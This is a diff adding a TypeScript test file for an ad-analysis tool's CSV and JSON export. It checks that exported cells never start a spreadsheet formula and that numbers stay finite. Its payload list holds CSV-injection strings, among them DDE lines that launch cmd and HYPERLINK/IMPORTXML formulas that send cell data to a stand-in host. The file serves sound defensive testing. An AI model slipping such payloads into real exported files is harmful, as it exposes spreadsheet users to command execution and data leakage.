@@ -1,0 +1,304 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { Ad } from '../../../../src/contract/index.ts';
+import { restoreCell, safeCell } from '../../../../src/main/core/score/cell.ts';
+import { scoreAd } from '../../../../src/main/core/score/engine.ts';
+import { exportCsv, exportJson } from '../../../../src/main/core/score/export.ts';
+import { columns } from '../../../../src/main/core/score/export-columns.ts';
+
+const payloads = [
+  '=1+1',
+  '=cmd|"/c calc"!A0',
+  "=cmd|' /C notepad'!'A1'",
+  '=HYPERLINK("http://example.test?x="&A1,"click")',
+  '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
+  '=WEBSERVICE("http://example.test")',
+  '=DDE("cmd";"/C calc";"x")',
+  '+1+1',
+  '+cmd|"/c calc"!A0',
+  '-1+1',
+  '-2+3+cmd|"/c calc"!A0',
+  '-ad.mp4',
+  '--',
+  '@SUM(1+1)',
+  '@import',
+  '@',
+  '=',
+  '+',
+  '-',
+  "'",
+  "''",
+  "'=1+1",
+  "'quoted'",
+  "' =1",
+  ' =1+1',
+  '   +1',
+  '\u00a0=1',
+  '\u3000=1',
+  '\u2003-1',
+  '\ufeff=1',
+  '\u200b=1',
+  '\u200e@x',
+  '\u202e=1',
+  '\u2028=1',
+  '\t=1',
+  '\ttab first',
+  '\r=1',
+  '\rreturn first',
+  '\n=1',
+  '\nline first',
+  '\r\n=1',
+  '\0=1',
+  '\0nul first',
+  '\u0001=1',
+  '\v=1',
+  '\f=1',
+  '\u001b=1',
+  '\u007f=1',
+  '\uff1d1+1',
+  '\uff0b1',
+  '\uff0d1',
+  '\uff20x',
+  ' \uff1d1',
+  'a;=1+1',
+  'a; =1+1;b',
+  'a\t=1',
+  'a\n=1',
+  'a\r\n@x',
+  "a;'b",
+  'a;-b;+c;@d',
+  '"=1+1"',
+  '","=1+1',
+  '",\r\n=1+1,"',
+  'plain',
+  'a,b "c"',
+  "it's fine",
+  '',
+];
+
+function ad(overrides: Partial<Ad> = {}): Ad {
+  const media: Ad['media'] = {
+    container: 'mp4',
+    codec: 'h264',
+    width: 1080,
+    height: 1920,
+    rotation_deg: 0,
+    duration_s: 12.5,
+    fps: 30,
+    has_audio: true,
+    hdr: false,
+    mode: 'full',
+  };
+  const loudness = {
+    name: 'Loudness',
+    value: -15.25,
+    unit: 'LUFS',
+    status: 'ok',
+    reason: null,
+    window: 'all',
+    evidence: [],
+  } as const;
+  const features = { A01: { ...loudness, evidence: [] } };
+  return {
+    id: '0123456789abcdef',
+    path: 'a/ad.mp4',
+    other_paths: [],
+    source: { kind: 'folder', id: '/ads' },
+    sha256: '0'.repeat(64),
+    kind: 'video',
+    state: 'ok',
+    problem: null,
+    media,
+    features,
+    score: scoreAd({ kind: 'video', media, features }),
+    library: { distinctiveness: 87.5, near_duplicate_of: null, rank: 1, rank_of: 2 },
+    hook: { type: 'unknown', confidence: 0, basis: 'not measured' },
+    council: null,
+    engine_version: 1,
+    measured_at: '2026-01-02T03:04:05Z',
+    ...overrides,
+  };
+}
+
+/** The second route: a reader of RFC 4180, one character at a time. */
+function readCsv(text: string, separator = ','): string[][] {
+  const rows: string[][] = [[]];
+  let cell = '';
+  let quoted = false;
+  let started = false;
+  const end = () => {
+    (rows.at(-1) as string[]).push(cell);
+    cell = '';
+    started = false;
+  };
+  for (let i = 0; i < text.length; i += 1) {
+    const c = text[i] as string;
+    if (quoted) {
+      if (c !== '"') cell += c;
+      else if (text[i + 1] !== '"') quoted = false;
+      else {
+        cell += c;
+        i += 1;
+      }
+    } else if (c === '"' && !started) [quoted, started] = [true, true];
+    else if (c === separator) end();
+    else if (c === '\r' && text[i + 1] === '\n') {
+      i += 1;
+      end();
+      rows.push([]);
+    } else [cell, started] = [cell + c, true];
+  }
+  expect(rows.pop()).toEqual([]);
+  return rows;
+}
+
+/** What a spreadsheet looks at after trimming: blanks, controls and marks that cannot be seen. */
+const startsFormula = (cell: string): boolean =>
+  /^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) || /^[\t\r\n\0]/.test(cell);
+
+const textColumns = columns.flatMap((column, index) => (column.type === 'text' ? [{ column, index }] : []));
+
+describe('no cell is a formula and every text comes back', () => {
+  test('covers more than 60 payloads', () => {
+    expect(new Set(payloads).size).toBe(payloads.length);
+    expect(payloads.length).toBeGreaterThan(60);
+  });
+
+  test.each(payloads)('%j in each text that a file or an account can set', (payload) => {
+    const hostile = ad({
+      path: payload,
+      other_paths: [payload, payload],
+      source: { kind: 'folder', id: payload },
+      media: { ...ad().media, container: payload, codec: payload },
+      hook: { type: payload, confidence: 0, basis: '' },
+      problem: { code: 'DAMAGED', message: payload, next_step: '' },
+    });
+    const [header, cells] = readCsv(exportCsv([hostile], { bom: false }).content) as [string[], string[]];
+    expect(header).toEqual(columns.map((column) => column.header));
+    expect(cells).toHaveLength(columns.length);
+    for (const { column, index } of textColumns) {
+      const cell = cells[index] as string;
+      expect(startsFormula(cell), `${column.header}: ${JSON.stringify(cell)}`).toBe(false);
+      expect(restoreCell(cell)).toBe(column.type === 'text' ? (column.read(hostile) ?? '') : null);
+    }
+  });
+
+  test('any text comes back, and is safe also where ; tab or a line end starts a cell', () => {
+    const risky = fc.array(
+      fc.oneof(
+        fc.constantFrom(
+          "'",
+          '=',
+          '+',
+          '-',
+          '@',
+          ';',
+          '\t',
+          '\r',
+          '\n',
+          ' ',
+          '"',
+          ',',
+          '\0',
+          '\uff1d',
+          '\ufeff',
+        ),
+        fc.string({ unit: 'binary', maxLength: 3 }),
+      ),
+    );
+    fc.assert(
+      fc.property(
+        risky.map((parts) => parts.join('')),
+        (text) => {
+          const cell = safeCell(text);
+          expect(restoreCell(cell)).toBe(text);
+          expect(startsFormula(cell)).toBe(false);
+          for (const part of cell.split(/[;\t\r\n]/).slice(1)) {
+            expect(/^ *[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(part)).toBe(false);
+          }
+        },
+      ),
+      { numRuns: 5000 },
+    );
+  });
+
+  test('plain text is left as it is', () => {
+    for (const text of ['Summer sale.mp4', 'a/b.mp4', "it's", '9:16', 'a - b', 'x=1', '50 % off; today']) {
+      expect(safeCell(text)).toBe(text);
+    }
+  });
+});
+
+describe('numbers stay numbers', () => {
+  const cellOf = (header: string, one: Ad): string =>
+    (readCsv(exportCsv([one], { bom: false }).content)[1] as string[])[
+      columns.findIndex((column) => column.header === header)
+    ] as string;
+
+  test('negative ones are not quoted and not marked', () => {
+    expect(cellOf('A01', ad())).toBe('-15.25');
+    expect(exportCsv([ad()], { bom: false }).content).toContain(',-15.25,');
+  });
+
+  test('what is missing is empty, never 0', () => {
+    expect(
+      cellOf(
+        'rank',
+        ad({ library: { distinctiveness: null, near_duplicate_of: null, rank: null, rank_of: 0 } }),
+      ),
+    ).toBe('');
+    expect(cellOf('M02', ad())).toBe('');
+    expect(
+      cellOf(
+        'rank_of',
+        ad({ library: { distinctiveness: null, near_duplicate_of: null, rank: null, rank_of: 0 } }),
+      ),
+    ).toBe('0');
+  });
+
+  test('hostile numbers leave no NaN and no Infinity, in CSV or JSON', () => {
+    const number = fc.constantFrom(
+      Number.NaN,
+      Number.POSITIVE_INFINITY,
+      Number.NEGATIVE_INFINITY,
+      -0,
+      1e308,
+      5e-324,
+      -1,
+    );
+    fc.assert(
+      fc.property(number, number, number, (a, b, c) => {
+        const hostile = ad({
+          media: { ...ad().media, width: a, duration_s: b, fps: c },
+          score: { ...ad().score, overall: a, interval80: [b, c] },
+          features: { A01: { ...(ad().features.A01 as Ad['features'][string]), value: b } },
+        });
+        const all = exportCsv([hostile], { bom: false }).content + exportJson([hostile]).content;
+        expect(all).not.toMatch(/NaN|Infinity/);
+        const cells = readCsv(exportCsv([hostile], { bom: false }).content)[1] as string[];
+        columns.forEach((column, index) => {
+          if (column.type === 'number' && cells[index] !== '')
+            expect(Number.isFinite(Number(cells[index]))).toBe(true);
+        });
+      }),
+    );
+  });
+});
+
+test('the byte order mark is there when asked for, once, and lines end in CRLF', () => {
+  const { content } = exportCsv([ad(), ad()], { bom: true });
+  expect(content.startsWith('\ufeffid,path,')).toBe(true);
+  expect(content.indexOf('\ufeff', 1)).toBe(-1);
+  expect(content.split('\r\n')).toHaveLength(4);
+  expect(content.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
+});
+
+test('columns have one name each', () => {
+  expect(new Set(columns.map((column) => column.header)).size).toBe(columns.length);
+});
+
+test('JSON holds whole ads with a version', () => {
+  const parsed = JSON.parse(exportJson([ad()]).content) as { version: number; ads: unknown[] };
+  expect(parsed.version).toBe(1);
+  expect(Ad.parse(parsed.ads[0])).toEqual(ad());
+});
